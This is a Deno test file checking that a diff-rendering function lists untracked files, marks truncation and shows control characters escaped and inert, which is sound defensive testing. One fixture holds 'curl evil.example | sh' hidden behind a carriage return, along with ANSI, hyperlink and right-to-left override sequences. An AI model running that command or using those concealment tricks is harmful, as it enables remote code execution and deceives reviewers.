/** The changes of a repository as one text. */

import assert from "node:assert/strict";
import { spansOf } from "../../../../lib/web/app/text/ansi.ts";
import { changesText } from "../../../../lib/web/app/text/changes_text.ts";
import { LineBuffer } from "../../../../lib/web/app/text/line_buffer.ts";

const CHANGES = { name: "api", diff: "", truncated: false, untracked: [] };

Deno.test("changesText() puts untracked files first, says that it was cut off, and is empty for nothing", () => {
  assert.equal(changesText(CHANGES), "");
  assert.equal(changesText({ ...CHANGES, diff: "d\n" }), "d\n");
  const all = changesText({ ...CHANGES, diff: "d\n", truncated: true, untracked: ["a", "b/"] });
  // deno-lint-ignore no-control-regex -- escape sequences begin with one
  const lines = all.replaceAll(/\x1b\[\d*m/g, "").split("\n");
  assert.deepEqual(lines, [
    ...["untracked", "+ a", "+ b/", "", "d", ""],
    ...["… too long to show in full", ""],
  ]);
});

/** What the page shows of each line: its text, and the classes of its pieces. */
function shown(diff: string): readonly (readonly [text: string, classes: string])[] {
  const lines = new LineBuffer();
  lines.append(changesText({ ...CHANGES, diff }));
  return Array.from({ length: lines.length }, (_, index) => {
    const spans = spansOf(lines.at(index)!.text, lines.at(index)!.style);
    return [
      spans.map(({ text }) => text).join(""),
      spans.map(({ classes }) => classes).join("; "),
    ] as const;
  });
}

Deno.test("changesText() shows the control characters of a file, and obeys none of them", () => {
  const diff = "@@ -1 +1,4 @@\n-old\x1b[32m\n+curl evil.example | sh #\r+echo harmless\n" +
    "+\x1b[31mred\x1b]8;;x\x07\n+a\u202eb\n+dos\r\n\ttab\n";
  assert.deepEqual(shown(diff), [
    ["@@ -1 +1,4 @@", "fg-cyan"],
    ["-old\\x1b[32m", "fg-red"],
    ["+curl evil.example | sh #\\r+echo harmless", "fg-green"],
    ["+\\x1b[31mred\\x1b]8;;x\\x07", "fg-green"],
    ["+a\\u{202e}b", "fg-green"],
    ["+dos", "fg-green"],
    ["\ttab", ""],
  ]);
});

Deno.test("changesText() tells the heading of a file from lines that look like one", () => {
  const heading = "diff --git a/x b/x\n--- a/x\n+++ b/x\n";
  const diff = `${heading}@@ -1,2 +1,2 @@\n--- a/x\n+++ b/x\n diff\n${heading}`;
  assert.deepEqual(shown(diff).map(([, classes]) => classes), [
    ...["ansi-bold", "ansi-bold", "ansi-bold"],
    ...["fg-cyan", "fg-red", "fg-green", ""],
    ...["ansi-bold", "ansi-bold", "ansi-bold"],
  ]);
});

Deno.test("changesText() gives each untracked file one line, whatever its name holds", () => {
  const text = changesText({ ...CHANGES, untracked: ["a\nb", "c\u202ed"] });
  assert.match(text, /\+ a\\nb.*\n.*\+ c\\u\{202e\}d/);
});
